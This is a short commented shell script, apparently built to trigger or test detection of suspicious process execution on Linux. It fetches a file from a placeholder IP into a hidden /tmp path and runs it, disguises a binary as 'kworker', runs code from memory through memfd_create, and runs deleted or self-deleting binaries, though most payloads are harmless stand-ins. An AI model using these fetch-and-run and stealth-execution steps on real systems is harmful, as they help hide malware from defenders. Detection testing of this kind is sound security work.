# Programs that were not there before: fetched, renamed, made in memory, deleted before or while they run.
curl -s -o /tmp/.cache-upd http://203.0.113.66/kit
chmod 755 /tmp/.cache-upd
/tmp/.cache-upd
# Under another name than it was written as.
cp /bin/true /dev/shm/.part
mv /dev/shm/.part /dev/shm/kworker
/dev/shm/kworker
# A script that an interpreter is given.
mkdir /tmp/work
cd /tmp/work
echo 'echo stage two' > stage2
bash stage2 > /dev/null
cd /root
# From memory.
perl -e 'my $fd = syscall(319, my $name = "upd", 0); use IO::Handle; open(my $memory, ">&=", $fd) or die;
    open(my $program, "<", "/bin/true") or die; binmode $program;
    print {$memory} <$program>; $memory->flush;
    $^F = 255; exec {"/proc/$$/fd/$fd"} "kworker/0:1"'
# Deleted before it is run.
cp /bin/true /tmp/gone
perl -e 'open(my $program, "<", "/tmp/gone") or die; unlink "/tmp/gone";
    exec {"/proc/$$/fd/" . fileno $program} "gone"'
# Deleted by itself while it runs.
cp /usr/bin/perl /tmp/agent
/tmp/agent -e 'unlink "/tmp/agent"; select(undef, undef, undef, 0.1)'
